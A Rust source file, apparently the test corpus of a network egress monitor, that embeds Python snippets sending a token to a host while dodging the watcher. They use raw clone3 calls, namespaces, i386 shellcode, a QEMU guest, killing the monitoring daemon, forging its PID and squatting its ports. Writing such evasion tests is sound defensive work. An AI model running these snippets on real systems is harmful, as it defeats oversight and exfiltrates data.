//! Ways out by what a process is: its program, its parents, its number, its user, its cgroup, and
//! whether anybody watches it.
use super::{Stage, Way, rare, root, way};

/// Forks by a system call of one's own, and sends from the child.
macro_rules! forked {
    ($call:literal, $wait:literal) => {
        concat!(
            "\nchild = call(libc.syscall(",
            $call,
            "), \"clone\")\n",
            "if child == 0:\n    try:\n        tcp((host, port))\n",
            "    except OSError as error:\n        print(error)\n    os._exit(0)\n",
            $wait
        )
    };
}

pub(super) const WAYS: &[Way] = &[
    // A machine with a TCP of its own: the ROM of its network card asks for what it is to boot.
    way(
        40,
        "virtual-machine",
        r#"
network = f"user,id=net,bootfile=http://{host}:{port}/{where['token']}"
machine = subprocess.Popen(["qemu-system-x86_64", "-accel", "tcg", "-m", "64", "-nographic",
    "-monitor", "none", "-serial", "stdio", "-netdev", network, "-device", "e1000,netdev=net",
    "-boot", "n"], stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
screen, until = b"", time.monotonic() + 25
try:
    while b"Filename" not in screen and time.monotonic() < until:
        screen += os.read(machine.stdout.fileno(), 4096) or sys.exit("it ended")
    time.sleep(2)
finally:
    machine.kill()
"#,
    )
    .that_may_fail(),
    rare(
        47,
        "static-program",
        r#"
subprocess.run(["busybox", "nc", "-w", "2", host, str(port)], input=token)
"#,
    ),
    rare(47, "calls-of-i386", CALLS_OF_I386),
    way(
        50,
        "flood",
        r#"
held = []
for number in range(2000):
    s = socket.socket()
    s.setblocking(False)
    s.connect_ex((host, 9))
    held.append(s)
    if number % 500 == 0:
        try:
            tcp((host, port))
        except OSError as error:
            print(error)
        held.clear()
"#,
    ),
    way(
        52,
        "no-hangup",
        r#"
code = f"import socket, time; time.sleep(0.2); s = socket.create_connection(({host!r}, {port}), 3); s.sendall({token!r}); s.shutdown(1); s.recv(1)"
subprocess.Popen(["nohup", "setsid", "/usr/bin/python3", "-c", code], stdout=subprocess.DEVNULL)
os.spawnlp(os.P_NOWAIT, "sleep", "sleep", "0.1")
time.sleep(1)
"#,
    ),
    root(
        52,
        "pid-namespace",
        r#"
call(libc.unshare(0x20000000), "unshare")
if os.fork() == 0:
    try:
        tcp((host, port))
    except OSError as error:
        print(error)
    os._exit(0)
os.wait()
"#,
    ),
    way(
        53,
        "vfork",
        r#"
code = f"import socket; s = socket.create_connection(({host!r}, {port}), 3); s.sendall({token!r}); s.shutdown(1); s.recv(1)"
os.waitpid(os.posix_spawn("/usr/bin/python3", ["python3", "-c", code], os.environ), 0)
"#,
    ),
    way(
        53,
        "clone3",
        forked!(
            "435, struct.pack('8Q', 0, 0, 0, 0, 17, 0, 0, 0), 64",
            "os.waitpid(child, 0)"
        ),
    ),
    way(
        53,
        "clone-parent",
        forked!("56, 0x8000 | 17, 0, 0, 0, 0", "time.sleep(1)"),
    ),
    way(
        53,
        "clone-untraced-files",
        forked!(
            "56, 0x800000 | 0x600 | 17, 0, 0, 0, 0",
            "os.waitpid(child, 0)"
        ),
    ),
    root(
        56,
        "su",
        r#"
code = f"import socket; s = socket.create_connection(({host!r}, {port}), 3); s.sendall({token!r}); s.shutdown(1); s.recv(1)"
subprocess.run(["su", "-s", "/bin/sh", "nobody", "-c", f"/usr/bin/python3 -c '''{code}'''".replace("'''", '"')])
"#,
    ),
    root(
        67,
        "clone-into-another-cgroup",
        r#"
cgroup = os.open(where["free_cgroup"], os.O_RDONLY | os.O_DIRECTORY)
words = struct.pack("11Q", 0x200000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, cgroup)
child = call(libc.syscall(435, words, len(words)), "clone3")
if child == 0:
    try:
        tcp((host, port))
    except OSError as error:
        print(error)
    os._exit(0)
os.waitpid(child, 0)
"#,
    ),
];

/// Socket, connect and send by the system calls of 32 bits, in code without any library.
const CALLS_OF_I386: &str = r#"
page = mmap.mmap(-1, 4096, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x40, prot=7)
at = ctypes.addressof(ctypes.c_char.from_buffer(page))
# push rbx; mov eax, 102 (socketcall); mov ebx, CALL; mov ecx, ARGUMENTS; int 0x80; pop rbx; ret
def socketcall(number, *words):
    page[2048:2048 + 4 * len(words)] = struct.pack(f"{len(words)}I", *words)
    page[:20] = b"\x53\xb8\x66\0\0\0\xbb" + struct.pack("I", number) + b"\xb9" + struct.pack("I", at + 2048) + b"\xcd\x80\x5b\xc3"
    result = ctypes.CFUNCTYPE(ctypes.c_int)(at)()
    print(number, result)
    return result
s = socketcall(1, 2, 1, 0)
page[3000:3016] = struct.pack("=H", 2) + struct.pack("!H", port) + socket.inet_aton(host) + bytes(8)
socketcall(3, s, at + 3000, 16)
page[3100:3100 + len(token)] = token
socketcall(9, s, at + 3100, len(token), 0)
time.sleep(0.2)
"#;

pub(super) const DEAD: &[Way] = &[
    root(
        36,
        "kill-the-daemon",
        r#"
if where["governed"]:
    os.kill(where["daemon"], signal.SIGKILL)
for attempt in (lambda: tcp((host, port)), lambda: tcp((host6, port)), lambda: tcp(("127.0.0.1", relay)),
                lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, 53)),
                lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(token, (host, port))):
    try:
        attempt()
    except OSError as error:
        print(error)
"#,
    )
    .at(Stage::Dead),
    root(
        51,
        "number-of-the-daemon",
        r#"
for _ in range(3000 if where["governed"] else 0):
    with open("/proc/sys/kernel/ns_last_pid", "w") as last:
        last.write(str(where["daemon"] - 1))
    child = os.fork()
    if child == 0:
        if os.getpid() != where["daemon"]:
            os._exit(0)
        break
    os.waitpid(child, 0)
    if child == where["daemon"]:
        os._exit(0)
tcp((host, port))
"#,
    )
    .at(Stage::Dead),
    root(
        66,
        "port-of-the-daemon",
        r#"
for to in where["daemon_ports"]:
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    try:
        s.bind(("127.0.0.1", to))
        s.listen()
    except OSError as error:
        print(error)
tcp((host, port))
"#,
    )
    .at(Stage::Dead),
];
